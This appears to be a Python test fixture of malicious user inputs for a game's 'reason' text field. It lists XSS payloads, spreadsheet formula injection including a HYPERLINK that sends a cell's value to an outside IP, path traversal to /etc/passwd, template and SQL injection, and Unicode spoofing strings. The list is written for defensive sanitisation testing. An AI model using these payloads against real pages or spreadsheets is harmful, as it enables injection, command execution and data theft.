"""What somebody may write to harm the page, the spreadsheet or the neighbour."""

from __future__ import annotations

from game.core.commands import REASON_LIMIT

REASONS = (
    "<script>window.owned=1</script>",
    '"><img src=x onerror="window.owned=1">',
    "</title></style></textarea></script><svg onload=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "javascript:window.owned=1 [her](javascript:window.owned=1)",
    "' onmouseover='window.owned=1' x='",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://192.0.2.9/"&A1;"her")',
    "\uff1d1+1 og så ; ; \"to\" 'tre'\n=1+1",
    "../../../../etc/passwd ..\\..\\windows\\system32 %2e%2e%2f \\\\192.0.2.9\\c$",
    "{ $seat } { -term } {{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0.__class__}",
    "fdp\u202egnp.exe \u2066snudd\u2069 \u200bblank\u00ad",
    "Z" + "\u0338\u0322\u034e\u0489" * 30 + "algo e\u0301",
    "\U0001d573\U0001d58a\U0001d591\U0001d591 \U0002070e\U00020731 \U0001f469\u200d\U0001f469",
    "W" * REASON_LIMIT,
)
LETTER = "Vi bryt'); DROP TABLE rows;-- &lt;b&gt;<b onclick=window.owned=1>no</b> \x1b[31m"
INJECT = "<h1 style=position:fixed>Melding</h1> =1+1 { $x } \u202eenil"
